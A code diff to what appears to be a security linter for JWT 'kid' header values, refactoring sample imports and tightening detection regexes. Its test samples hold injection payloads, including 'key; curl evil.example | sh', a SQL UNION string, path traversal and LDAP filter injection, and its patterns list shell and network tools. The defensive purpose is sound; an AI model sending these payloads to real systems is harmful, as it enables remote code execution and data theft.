@@ -3,10 +3,10 @@
 import re
 from collections.abc import Iterator
 
+from debugger import samples
 from debugger.claims.wording import quoted
 from debugger.pitfalls.registry import Case, Evidence, Severity, pitfall, rfc
 from debugger.regex import regex
-from debugger.samples import Question, with_header
 
 _AT = "header.kid"
 
@@ -33,8 +33,8 @@ def path_traversal(case: Case) -> Iterator[Evidence]:
 
 
 @path_traversal.sample
-def _path_traversal() -> Question:
-    return with_header(kid="../../../../dev/null")
+def _path_traversal() -> samples.Question:
+    return samples.with_header(kid="../../../../dev/null")
 
 
 @pitfall(
@@ -52,8 +52,8 @@ def sql(case: Case) -> Iterator[Evidence]:
 
 
 @sql.sample
-def _sql() -> Question:
-    return with_header(kid="x' UNION SELECT 'secret'-- ")
+def _sql() -> samples.Question:
+    return samples.with_header(kid="x' UNION SELECT 'secret'-- ")
 
 
 @pitfall(
@@ -71,8 +71,8 @@ def command(case: Case) -> Iterator[Evidence]:
 
 
 @command.sample
-def _command() -> Question:
-    return with_header(kid="key; curl evil.example | sh")
+def _command() -> samples.Question:
+    return samples.with_header(kid="key; curl evil.example | sh")
 
 
 @pitfall(
@@ -91,8 +91,8 @@ def ldap(case: Case) -> Iterator[Evidence]:
 
 
 @ldap.sample
-def _ldap() -> Question:
-    return with_header(kid="*)(uid=*")
+def _ldap() -> samples.Question:
+    return samples.with_header(kid="*)(uid=*")
 
 
 @pitfall(
@@ -111,8 +111,8 @@ def url(case: Case) -> Iterator[Evidence]:
 
 
 @url.sample
-def _url() -> Question:
-    return with_header(kid="https://keys.acme.example/2026-11.pem")
+def _url() -> samples.Question:
+    return samples.with_header(kid="https://keys.acme.example/2026-11.pem")
 
 
 @pitfall(
@@ -132,8 +132,8 @@ def control(case: Case) -> Iterator[Evidence]:
 
 
 @control.sample
-def _control() -> Question:
-    return with_header(kid="a\u202eb")
+def _control() -> samples.Question:
+    return samples.with_header(kid="a\u202eb")
 
 
 def _is_path(kid: str) -> bool:
@@ -161,13 +161,13 @@ _ROOT = regex(
 _EXTENSION = regex(r"\.[A-Za-z][A-Za-z0-9]{0,4}\Z")
 _BASE64 = regex(r"[A-Za-z0-9+/]+={0,2}")
 _SQL = regex(
-    r"""['"]\s*\)*\s*(?:(?:or|and|union|select)\b|--|;|/\*)|\bunion\s+(?:all\s+)?select\b""",
+    r"""['"]\s*+\)*+\s*+(?:(?:or|and|union|select)\b|--|;|/\*)|\bunion\s++(?:all\s++)?select\b""",
     re.IGNORECASE,
 )
 _COMMANDS = (
     "sh|bash|zsh|cat|curl|wget|id|whoami|uname|ls|nc|ncat|ping|sleep|rm|echo|touch|python|perl|ruby"
     "|node|powershell|cmd|nslookup|dig"
 )
-_COMMAND = regex(rf"`|\$\(|\$\{{|(?:;|\|\|?|&&?)\s*(?:{_COMMANDS})(?![\w-])", re.IGNORECASE)
+_COMMAND = regex(rf"`|\$\(|\$\{{|(?:;|\|\|?|&&?)\s*+(?:{_COMMANDS})(?![\w-])", re.IGNORECASE)
 _LDAP = ("*)(", ")(|", ")(&", "(|(", "(&(")
 _INVISIBLE = regex(r"[\x00-\x1f\x7f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
